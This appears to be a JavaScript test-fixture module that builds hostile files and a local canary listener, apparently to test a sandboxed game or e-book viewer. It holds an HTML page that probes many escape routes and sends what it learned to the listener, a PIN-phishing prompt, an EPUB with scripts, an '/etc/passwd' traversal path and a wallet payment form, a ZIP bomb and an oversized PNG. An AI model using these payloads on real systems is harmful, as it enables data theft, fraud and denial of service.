//! Works made to harm whoever opens them: a game that tries to get out of its room, a book with scripts, a ZIP bomb, and a
//! listener that would hear if any of them did. Also a small, honest PDF.

import dgram from 'node:dgram';
import http from 'node:http';
import net from 'node:net';
import zlib from 'node:zlib';

/** Hears whatever reaches it: over HTTP, over bare TCP, over UDP. */
export async function canary() {
  const heard = [];
  const server = http.createServer((request, response) => {
    heard.push(`${request.method} ${request.url}`);
    response.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/html' });
    response.end('<title>caught</title>');
  });
  server.on('upgrade', (request, socket) => { heard.push(`upgrade ${request.url}`); socket.destroy(); });
  const bare = net.createServer((socket) => { heard.push('tcp'); socket.destroy(); });
  const stun = dgram.createSocket('udp4');
  stun.on('message', () => heard.push('udp'));
  await Promise.all([
    new Promise((ready) => server.listen(0, '127.0.0.1', ready)),
    new Promise((ready) => bare.listen(0, '127.0.0.1', ready)),
    new Promise((ready) => stun.bind(0, '127.0.0.1', ready)),
  ]);
  return {
    heard,
    web: `127.0.0.1:${server.address().port}`,
    tcp: `127.0.0.1:${bare.address().port}`,
    udp: `127.0.0.1:${stun.address().port}`,
    close: () => { server.close(); bare.close(); stun.close(); },
  };
}

/** A game that tries everything a page can try, one after the other, and writes down what happened. */
export const evilGame = ({ web, tcp, udp }, wallet) => `<!doctype html><html lang="en"><title>Free game</title>
<link rel="stylesheet" href="http://${web}/style"><link rel="preconnect" href="http://${tcp}/"><link rel="dns-prefetch" href="http://${web}/">
<link rel="prefetch" href="http://${web}/prefetch"><link rel="icon" href="http://${web}/icon">
<script src="http://${web}/script"></script><img src="http://${web}/picture"><iframe src="http://${web}/frame"></iframe>
<form id="f" method="post" action="http://${web}/form"><input name="a"></form><a id="a" href="http://${web}/link" ping="http://${web}/ping" target="_top">x</a>
<canvas id="c" width="40" height="40"></canvas><pre id="told"></pre>
<script>
const told = {};
const write = () => { document.getElementById('told').textContent = JSON.stringify(told); };
const attempt = async (name, run) => {
  try { told[name] = 'got through: ' + await Promise.race([run(), new Promise((_, no) => setTimeout(() => no(new Error('silence')), 700))]); }
  catch (error) { told[name] = 'refused: ' + (error && error.name || error); }
  write();
};
const loads = (make) => new Promise((done, no) => { const it = make(); it.onload = () => done('loaded'); it.onerror = () => no(new Error('not loaded')); });
(async () => {
  document.getElementById('c').getContext('2d').fillRect(0, 0, 20, 20);
  told.ran = 'got through: yes';
  await attempt('fetch', () => fetch('http://${web}/fetch'));
  await attempt('no-cors', () => fetch('http://${web}/no-cors', { mode: 'no-cors' }));
  await attempt('wallet', () => fetch('${wallet}/healthz', { mode: 'no-cors' }));
  await attempt('own room', () => fetch(location.href).then((it) => it.text()));
  await attempt('xhr', () => new Promise((done, no) => { const x = new XMLHttpRequest(); x.onload = done; x.onerror = () => no(new Error('no')); x.open('GET', 'http://${web}/xhr'); x.send(); }));
  await attempt('beacon', async () => { navigator.sendBeacon('http://${web}/beacon', 'x'); throw new Error('whether it came, the listener knows'); });
  await attempt('socket', () => new Promise((done, no) => { const s = new WebSocket('ws://${web}/socket'); s.onopen = done; s.onerror = () => no(new Error('no')); }));
  await attempt('events', () => new Promise((done, no) => { const s = new EventSource('http://${web}/events'); s.onopen = done; s.onerror = () => { s.close(); no(new Error('no')); }; }));
  await attempt('image', () => loads(() => Object.assign(new Image(), { src: 'http://${web}/image' })));
  await attempt('late script', () => loads(() => document.body.appendChild(Object.assign(document.createElement('script'), { src: 'http://${web}/late' }))));
  await attempt('late frame', async () => { const f = document.createElement('iframe'); f.src = 'http://${web}/late-frame'; document.body.append(f); await new Promise((r) => setTimeout(r, 300)); if (!f.contentWindow) throw new Error('no'); throw new Error('blank'); });
  await attempt('inner frame', async () => { const f = document.createElement('iframe'); f.srcdoc = '<script>fetch("http://${web}/inner",{mode:"no-cors"});new Image().src="http://${web}/inner2";location="http://${web}/inner3"<\\/script>'; document.body.append(f); await new Promise((r) => setTimeout(r, 300)); throw new Error('sent nothing'); });
  await attempt('worker', () => new Promise((done, no) => { const w = new Worker(URL.createObjectURL(new Blob(['fetch("http://${web}/worker",{mode:"no-cors"}).then(() => postMessage("sent"), () => postMessage("no"));try{importScripts("http://${web}/import")}catch{}']))); w.onmessage = (m) => m.data === 'sent' ? done('sent') : no(new Error('no')); w.onerror = () => no(new Error('no')); }));
  await attempt('service worker', () => navigator.serviceWorker.register('data:text/javascript,1'));
  await attempt('webrtc', () => new Promise((done, no) => { const p = new RTCPeerConnection({ iceServers: [{ urls: 'stun:${udp}' }] }); p.createDataChannel('x'); p.onicecandidate = (e) => { if (!e.candidate) no(new Error('gathered nothing')); else if (/srflx/.test(e.candidate.candidate)) done('reached'); }; p.createOffer().then((o) => p.setLocalDescription(o)).catch(no); }));
  await attempt('transport', async () => { const t = new WebTransport('https://${web}/transport'); await t.ready; });
  await attempt('local storage', async () => localStorage.setItem('a', 'b'));
  await attempt('database', () => new Promise((done, no) => { const r = indexedDB.open('a'); r.onsuccess = done; r.onerror = () => no(new Error('no')); }));
  await attempt('cookie', async () => { document.cookie = 'a=b'; if (!document.cookie) throw new Error('no'); });
  await attempt('caches', () => caches.open('a'));
  await attempt('parent', async () => parent.document.title);
  await attempt('top address', async () => top.location.href);
  await attempt('popup', async () => { if (!window.open('http://${web}/popup')) throw new Error('no window'); });
  await attempt('dialog', async () => { if (!confirm('Your PIN?')) throw new Error('no answer'); });
  await attempt('camera', () => navigator.mediaDevices.getUserMedia({ video: true }));
  await attempt('place', () => new Promise((done, no) => navigator.geolocation.getCurrentPosition(done, no)));
  await attempt('clipboard', () => navigator.clipboard.readText());
  await attempt('link', async () => { document.getElementById('a').click(); throw new Error('clicked'); });
  await attempt('form', async () => { document.getElementById('f').submit(); throw new Error('submitted'); });
  await attempt('top', async () => { top.location = 'http://${web}/top'; throw new Error('stayed'); });
  told.done = 'refused: done'; write();
})();
// And last of all it leaves, with everything it has learnt.
window.leave = () => {
  document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: '0;url=http://${web}/refresh' }));
  setTimeout(() => { location = 'http://${web}/leave?' + encodeURIComponent(JSON.stringify(told)); }, 50);
};
</script></html>`;

const local = (name, data, packed, method, at) => {
  const head = Buffer.alloc(30);
  head.writeUInt32LE(0x04034b50, 0);
  head.writeUInt16LE(20, 4);
  head.writeUInt16LE(method, 8);
  head.writeUInt32LE(crc32(data), 14);
  head.writeUInt32LE(packed.length, 18);
  head.writeUInt32LE(data.length, 22);
  head.writeUInt16LE(name.length, 26);
  const entry = Buffer.alloc(46);
  entry.writeUInt32LE(0x02014b50, 0);
  entry.writeUInt16LE(20, 4);
  entry.writeUInt16LE(20, 6);
  head.copy(entry, 10, 8, 28);
  entry.writeUInt16LE(name.length, 28);
  entry.writeUInt32LE(at, 42);
  return { head: Buffer.concat([head, Buffer.from(name), packed]), entry: Buffer.concat([entry, Buffer.from(name)]) };
};

const TABLE = Array.from({ length: 256 }, (_, n) => {
  let c = n;
  for (let k = 0; k < 8; k += 1) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
  return c >>> 0;
});
const crc32 = (bytes) => {
  let c = 0xffffffff;
  for (const byte of bytes) c = TABLE[(c ^ byte) & 255] ^ (c >>> 8);
  return (c ^ 0xffffffff) >>> 0;
};

/** An archive of these files; the first is stored as it is, as an EPUB's must be. */
export function zip(files) {
  const parts = [];
  const list = [];
  let at = 0;
  for (const [name, text] of files) {
    const data = Buffer.from(text);
    const stored = parts.length === 0;
    const made = local(name, data, stored ? data : zlib.deflateRawSync(data), stored ? 0 : 8, at);
    parts.push(made.head);
    list.push(made.entry);
    at += made.head.length;
  }
  const all = Buffer.concat(list);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(list.length, 8);
  end.writeUInt16LE(list.length, 10);
  end.writeUInt32LE(all.length, 12);
  end.writeUInt32LE(at, 16);
  return Buffer.concat([...parts, all, end]);
}

/** A book of these chapters, and whatever else lies in it. */
export const book = (chapters, more = []) => zip([
  ['mimetype', 'application/epub+zip'],
  ['META-INF/container.xml', '<container><rootfiles><rootfile full-path="in/b.opf"/></rootfiles></container>'],
  ['in/b.opf', `<package><metadata><dc:language>en</dc:language></metadata><manifest>${
    chapters.map((_, n) => `<item id="c${n}" href="c${n}.xhtml" media-type="application/xhtml+xml"/>`).join('')
  }</manifest><spine>${chapters.map((_, n) => `<itemref idref="c${n}"/>`).join('')}</spine></package>`],
  ...chapters.map((body, n) => [`in/c${n}.xhtml`, `<html><head><title>t</title>${body.head ?? ''}</head><body>${body.body ?? body}</body></html>`]),
  ...more,
]);

/** A book that tries to run, to load and to lead away. */
export const evilBook = ({ web }, wallet) => book([
  {
    head: `<script>window.ran = 1; new Image().src = 'http://${web}/head'</script><link rel="stylesheet" href="http://${web}/style"/><style>body { background: url(http://${web}/css) }</style><meta http-equiv="refresh" content="0;url=http://${web}/refresh"/><base href="http://${web}/base/"/>`,
    body: `<h1 onclick="ran()">A quiet chapter</h1><p style="background:url(http://${web}/inline)">It says <em>nothing</em>.</p><img src="http://${web}/picture.png" onerror="fetch('http://${web}/error')" alt="gone"/><img src="evil.svg" alt="a drawing"/><img src="../../../etc/passwd" alt="a file"/><script src="evil.js"></script><iframe src="${wallet}/"></iframe><form action="${wallet}/v1/load"><input name="amount" value="500"/></form><object data="http://${web}/object"></object><video src="http://${web}/video"></video><svg onload="fetch('http://${web}/svg')"><script>new Image().src = 'http://${web}/svg2'</script></svg><a id="out" href="http://${web}/link">out</a> <a href="javascript:new Image().src='http://${web}/js'">js</a>`,
  },
  '<h1>The end</h1><p>Still quiet.</p>',
], [
  ['in/evil.js', `new Image().src = 'http://${web}/evil.js'`],
  ['in/evil.svg', `<svg xmlns="http://www.w3.org/2000/svg" width="60" height="60" onload="fetch('http://${web}/onload')"><script>new Image().src = 'http://${web}/script'</script><image href="http://${web}/image"/><rect width="60" height="60" fill="#c33"/></svg>`],
]);

/** A book whose one chapter is ten thousand times as long as it is packed. */
export const bomb = () => book(['<h1>Small</h1>', `<p>${' '.repeat(15 << 20)}</p>`]);

/** The first bytes of a picture of ten thousand million points. */
export function hugePicture() {
  const body = Buffer.alloc(17);
  body.write('IHDR');
  body.writeUInt32BE(100_000, 4);
  body.writeUInt32BE(100_000, 8);
  Buffer.from([8, 6, 0, 0, 0]).copy(body, 12);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([Buffer.from('\x89PNG\r\n\x1a\n\0\0\0\x0d', 'latin1'), body, crc, Buffer.from('\0\0\0\x01IDAT\0', 'latin1'), Buffer.alloc(4096)]);
}

/** A PDF whose pages say these lines. */
export function paper(pages) {
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    `<< /Type /Pages /Kids [${pages.map((_, n) => `${4 + 2 * n} 0 R`).join(' ')}] /Count ${pages.length} >>`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
  ];
  pages.forEach((lines, n) => {
    const content = `0.2 0.3 0.4 rg 40 40 515 120 re f BT /F 26 Tf 60 740 Td ${lines.map((line) => `(${line}) Tj 0 -36 Td`).join(' ')} ET`;
    objects.push(`<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F 3 0 R >> >> /Contents ${5 + 2 * n} 0 R >>`);
    objects.push(`<< /Length ${content.length} >>\nstream\n${content}\nendstream`);
  });
  let out = '%PDF-1.4\n';
  const places = objects.map((object, n) => {
    const place = out.length;
    out += `${n + 1} 0 obj\n${object}\nendobj\n`;
    return place;
  });
  const start = out.length;
  out += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${places.map((it) => `${String(it).padStart(10, '0')} 00000 n \n`).join('')}`;
  return Buffer.from(`${out}trailer << /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${start}\n%%EOF\n`);
}
